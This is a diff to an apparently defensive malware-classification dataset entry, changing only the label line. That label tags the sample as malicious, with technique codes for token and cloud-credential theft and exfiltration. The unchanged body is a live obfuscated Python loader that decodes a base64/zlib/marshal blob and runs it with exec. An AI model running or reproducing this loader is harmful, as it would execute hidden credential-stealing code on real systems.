@@ -1,3 +1,3 @@
-# label: malicious family=encoded techniques=T1140,T1027,T1059.006 lines=3
+# label: malicious family=encoded techniques=T1027,T1027.002,T1041,T1059.006,T1140,T1528,T1552.005 lines=3
 import marshal,zlib,base64
 exec(marshal.loads(zlib.decompress(base64.b64decode(b'eJyFUDFv00AYvfNd40yFhQWp7BnqS0hYUNUFKFKaBIlWiRQJpMP30bg4dno+Ryh/pB0YmCKhdmDgh1QdaOWhO1tKKyF14jsnqahkiZP93r137/Pn73zyz3IXfH2JcEgUUTQkfZqz03eA7rNl9CsnBeteYqUooRzFFA/oycrUIeTYWfpTiore1ZaKaqf4Ht+pvvv//1ElcE/c+50oTrNDKuVfVnQm/YExo+dCDMFIJY309uJ4LwQviAzoSIbCj4ej1EB7cS7GNRFEiZGRDyIBPQ58WJe+H6eRSYSCjzINjTDxJ4gmD5ZF61uhHMc6K73OP16hmTsAqUAnk0eL/k+rda/q1Wp1r1EVBhPcFlbK2WqqwzD44Gk4SCExWWmuM76fxFHmLm0X7XgE6LxdOFxji4yab+TajnrLNj5v3pY3hrFKQ9jUD/O7ICT5iTBjlNIL8vi06Dnqfnl/vlY/W6t/3/rROW80zxrNGSEtOnCQtPOCIb1kLUsHTpudNppXhDzrsJsccf/kjd0j/kHcZb9ztH4397vsqIa1PfbOyh4Dm+uxoQ1awrOIveJI27zFZ3PzylKb38xpVkR6FUf7C8dLruw='))))
